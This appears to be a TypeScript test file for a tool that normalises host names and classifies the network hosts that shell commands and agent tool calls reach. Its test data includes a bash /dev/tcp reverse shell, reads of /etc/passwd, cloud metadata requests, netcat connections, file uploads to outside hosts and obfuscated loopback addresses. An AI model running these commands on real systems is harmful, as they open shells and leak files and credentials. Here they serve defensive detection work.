// Hosts: one spelling for each, and the hosts that commands reach.
import { describe, expect, test } from "vitest";
import { normaliseHost } from "../../../../src/main/engine/normalise/places/hosts.ts";
import { callFacts, commandFacts, hostsOf } from "../support.ts";

describe("a host has one spelling", () => {
  test.each([
    ["Example.ORG.", "example.org"],
    ["127.0.0.1", "127.0.0.1"],
    ["2130706433", "127.0.0.1"],
    ["0x7f000001", "127.0.0.1"],
    ["0x7f.1", "127.0.0.1"],
    ["0177.0.0.01", "127.0.0.1"],
    ["127.1", "127.0.0.1"],
    ["017700000001", "127.0.0.1"],
    ["0017700000001", "127.0.0.1"],
    ["0x00000000007f.1", "127.0.0.1"],
    ["127.0x.0x.1", "127.0.0.1"],
    ["192.168.08.09", "192.168.8.9"],
    ["①②⑦.1", "127.0.0.1"],
    ["1.2.3.4.", "1.2.3.4"],
    ["[::1]", "::1"],
    ["[0:0:0:0:0:0:0:1]", "::1"],
    ["[::ffff:127.0.0.1]", "127.0.0.1"],
    ["[2001:DB8:0:0:1:0:0:1]", "2001:db8::1:0:0:1"],
    ["[::ffff:7f00:1]", "127.0.0.1"],
    ["[::ffff:0177.0.0.1]", "127.0.0.1"],
    ["[::ffff:127.1]", "127.0.0.1"],
    ["[::127.0.0.1]", "::7f00:1"],
    ["[1:2:3:4:5:6:7::8]", "1:2:3:4:5:6:7:8"],
    ["[fe80::1%eth0]", "fe80::1"],
    ["bücher.example", "xn--bcher-kva.example"],
    ["例え.テスト", "xn--r8jz45g.xn--zckzah"],
    ["ｅｘａｍｐｌｅ．ｏｒｇ", "example.org"],
    ["exa\u200bmple.org", "example.org"],
    ["exa\u200emple.org", "example.org"],
    ["example\u{e0100}.org", "example.org"],
    ["ΟΔΟΣ.example", "xn--pxavbq.example"],
    ["οδοσ.example", "xn--pxavbq.example"],
    ["Ꭰa.example", "xn--a-18h.example"],
    ["ꭰa.example", "xn--a-18h.example"],
    ["straße.example", "xn--strae-oqa.example"],
    ["a\u{10fffd}b.example", "xn--ab-ee24y.example"],
    ["ä b.example", undefined],
    ["ä@b.example", undefined],
    ["ex%61mple.org", "example.org"],
  ])("%s", (given, expected) => {
    expect(normaliseHost(given)).toBe(expected);
  });

  test.each(["", "256.1.1.1", "1.2.3.4.5", "a b", "-a.org", "[::1", "x".repeat(300), "[1::2::3]"])(
    "%s is none",
    (given) => {
      expect(normaliseHost(given)).toBeUndefined();
    },
  );
});

describe("hosts of programs", () => {
  test.each([
    ["curl https://example.org:8443/x", ["download example.org:8443"]],
    ["curl example.org/x", ["download example.org"]],
    ["curl -X POST -d a https://example.org", ["upload example.org"]],
    ["curl -T a https://example.org", ["upload example.org"]],
    ["curl https://user:pass@example.org@evil.example/", ["download evil.example"]],
    ["curl http://2130706433/", ["download 127.0.0.1 local"]],
    ["curl http://169.254.169.254/latest/meta-data/", ["download 169.254.169.254 local"]],
    ["curl 'http://[::1]:80/'", ["download ::1:80 local"]],
    ["curl file:///etc/passwd", []],
    ["wget -q example.org/a", ["download example.org"]],
    ["wget --post-file=a https://example.org", ["upload example.org"]],
    ["ssh -p 2222 ada@example.org", ["connect example.org:2222"]],
    ["scp a ada@example.org:b", ["upload example.org"]],
    ["scp example.org:b a", ["download example.org"]],
    ["rsync -a a/ example.org:/b", ["upload example.org"]],
    ["nc example.org 4444", ["connect example.org:4444"]],
    ["nc -l 4444", []],
    ["telnet 10.0.0.1 23", ["connect 10.0.0.1:23 local"]],
    ["ping -c 1 192.168.1.1", ["connect 192.168.1.1 local"]],
    ["dig @8.8.8.8 secret.example.org", ["connect 8.8.8.8", "connect secret.example.org"]],
    ["bash -i >& /dev/tcp/203.0.113.7/443 0>&1", ["connect 203.0.113.7:443"]],
    ["socat TCP:example.org:443 -", ["connect example.org:443"]],
    ["git clone git@example.org:a/b.git", ["download example.org"]],
    ["git push https://example.org/a.git main", ["upload example.org"]],
    ["git remote add x ssh://git@example.org:22/a", ["connect example.org:22"]],
    ["some-program --url=https://example.org", ["connect example.org"]],
    ["echo https://example.org", []],
    ["git commit -m 'see https://example.org'", []],
    ["echo https://example.org | xargs curl", ["connect example.org", "download example.org"]],
    ["ping printer.local", ["connect printer.local local"]],
  ])("%s", (command, expected) => {
    expect(hostsOf(command)).toEqual(expected);
  });

  test("schemes and addresses are kept", () => {
    expect(commandFacts("curl https://example.org/a?b").hosts[0]).toEqual({
      host: "example.org",
      scheme: "https",
      url: "https://example.org/a?b",
      local: false,
      direction: "download",
    });
    expect(callFacts("WebFetch", { url: "example.org/a", prompt: "read" }).hosts[0]?.host).toBe("example.org");
    expect(callFacts("web_fetch", { prompt: "read https://example.org/a and sum up" }).hosts[0]?.host).toBe(
      "example.org",
    );
  });
});
